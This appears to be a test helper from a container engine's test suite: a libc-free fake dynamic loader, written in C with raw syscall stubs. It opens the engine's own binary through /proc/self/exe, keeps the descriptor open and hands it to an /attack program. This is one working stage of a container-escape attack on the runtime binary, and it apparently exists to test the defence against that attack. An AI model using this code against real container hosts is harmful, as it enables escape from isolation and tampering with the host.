// SPDX-License-Identifier: Apache-2.0
// A container's dynamic loader as an attacker would have it. When a payload makes the kernel execute the engine's own
// program inside the container ("#!/proc/self/exe"), this runs in a process whose /proc/self/exe is that program. It
// keeps a descriptor of it and becomes /attack, which tries to get at the file for as long as it can.
// No libc, no relocations: it is started in the place of ld.so.
#define _GNU_SOURCE
#include <asm/unistd.h>
#include <fcntl.h>

#if defined(__x86_64__)
static long call(long nr, long a, long b, long c, long d)
{
	register long r10 __asm__("r10") = d;
	long ret;

	__asm__ volatile("syscall" : "=a"(ret) : "a"(nr), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
	return ret;
}
__asm__(".globl _start\n_start:\n\tand $-16, %rsp\n\tcall start_c\n\thlt\n");
#elif defined(__aarch64__)
static long call(long nr, long a, long b, long c, long d)
{
	register long x8 __asm__("x8") = nr;
	register long x0 __asm__("x0") = a;
	register long x1 __asm__("x1") = b;
	register long x2 __asm__("x2") = c;
	register long x3 __asm__("x3") = d;

	__asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
	return x0;
}
__asm__(".globl _start\n_start:\n\tbl start_c\n\tbrk #0\n");
#endif

void start_c(void) __attribute__((noreturn));
void start_c(void)
{
	char number[] = {'0', 0}, attack[] = "/attack", mode[] = "keep";
	char *argv[4], *env[1] = {0};
	long fd = call(__NR_openat, AT_FDCWD, (long)"/proc/self/exe", O_PATH, 0); // not close-on-exec

	number[0] = (char)('0' + (fd & 7));
	argv[0] = attack;
	argv[1] = mode;
	argv[2] = number;
	argv[3] = 0;
	call(__NR_execve, (long)attack, (long)argv, (long)env, 0);
	for (;;)
		call(__NR_exit_group, 99, 0, 0, 0);
}
